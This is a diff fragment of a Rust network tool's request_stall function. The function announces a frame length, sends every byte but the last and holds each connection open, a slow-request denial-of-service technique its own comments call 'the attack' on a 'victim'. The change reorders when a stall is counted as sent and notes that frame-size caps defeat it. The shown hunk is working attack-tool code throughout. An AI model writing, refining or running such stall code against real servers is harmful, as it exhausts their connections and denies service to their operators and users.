@@ -228,8 +228,15 @@ async fn request_stall(mut c: Ctx) {
             continue;
         };
         let announced = STALL_FRAME as u32;
-        let mut left = STALL_FRAME - 1; // never the last byte
         let mut sent = s.write_all(&announced.to_be_bytes()).await;
+        if sent.is_ok() {
+            sent = s.flush().await;
+        }
+        if sent.is_ok() {
+            // The frame is announced: the attack is on, whether or not the victim reads on.
+            Counters::add(&c.counters.sent, 1);
+        }
+        let mut left = STALL_FRAME - 1; // never the last byte
         while sent.is_ok() && left > 0 {
             let n = left.min(filler.len());
             sent = s.write_all(&filler[..n]).await;
@@ -239,11 +246,9 @@ async fn request_stall(mut c: Ctx) {
             sent = s.flush().await;
         }
         match sent {
-            Ok(()) => {
-                Counters::add(&c.counters.sent, 1);
-                tokio::time::sleep(c.hold).await;
-            }
+            Ok(()) => tokio::time::sleep(c.hold).await,
             Err(_) => {
+                // A victim that caps request frames cuts us off here.
                 c.failed();
                 tokio::time::sleep(RETRY_PAUSE).await;
             }
